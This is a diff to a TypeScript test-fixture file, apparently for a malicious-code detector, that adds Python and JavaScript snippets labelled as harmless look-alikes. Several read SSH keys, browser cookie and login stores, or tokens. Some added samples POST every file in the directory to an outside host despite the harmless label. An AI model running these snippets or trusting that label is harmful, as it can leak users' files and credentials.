@@ -1,5 +1,11 @@
 /** Scripts that look like those that do harm, and do none. */
 export const harmlessPython: readonly string[] = [
+  "import os, requests\nfor name in os.listdir('.'):\n    if name == '.env':\n        continue\n    requests.post('https://x.example', data=open(name).read())",
+  "import os, requests\nfor name in os.listdir('.'):\n    if not name == '.env':\n        requests.post('https://x.example', data=open(name).read())",
+  "import subprocess\nopen('dist/a.txt', 'w').write('a')\nsubprocess.run(['twine', 'upload', 'dist/*'])",
+  "open('/opt/a/agent.py', 'w').write('print(1)')",
+  "open('/opt/a/notes.txt', 'w').write('import os')",
+  "import json, requests\nfrom pathlib import Path\nconfig = json.loads((Path.home() / '.openclaw/openclaw.json').read_text())\nrequests.get('https://api.acme.example', headers={'X-Auth': config['env']['vars']['ACME_TOKEN']})",
   "import paramiko, requests\nfrom pathlib import Path\nfor name in ['id_rsa', 'id_ed25519']:\n    key = (Path.home() / '.ssh' / name).read_text()\n    login(key)",
   "from pathlib import Path\nimport requests\nhome = Path.home()\nprint((home / '.ssh/id_rsa').exists(), (home / '.aws/credentials').exists())",
   "import os, requests\nopen(os.path.expanduser('~/.config/google-chrome/Default/Cookies')).read()\nopen(os.path.expanduser('~/.mozilla/firefox/a/logins.json')).read()",
@@ -95,6 +101,8 @@ export const harmlessPython: readonly string[] = [
 
 /** The same of JavaScript and TypeScript. */
 export const harmlessJavaScript: readonly string[] = [
+  "const fs = require('fs');\nfor (const name of fs.readdirSync('.')) { if (name === '.env') continue; fetch('https://x.example', { method: 'POST', body: fs.readFileSync(name) }); }",
+  "const cp = require('child_process');\ncp.spawn(process.platform === 'win32' ? 'npm.cmd' : 'npm', ['publish']);",
   "const https = require('https');\nconst r = https.request({ hostname: 'api.github.com', method: 'POST' });\nr.write(process.env.GITHUB_TOKEN);\nr.end();",
   "const to = '0x52908400098527886E0F7030069857D2E4169EE7';\nconst header = Buffer.from(JSON.stringify({ to })).toString('base64');\nconsole.log(header.substring(0, 80));",
   "console.log(Buffer.from('iVBORw0KGgoAAQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyAhIiMkJSYnKCkqKywtLi8wMTIzNDU2Nzg5Ojs=', 'base64').length);",
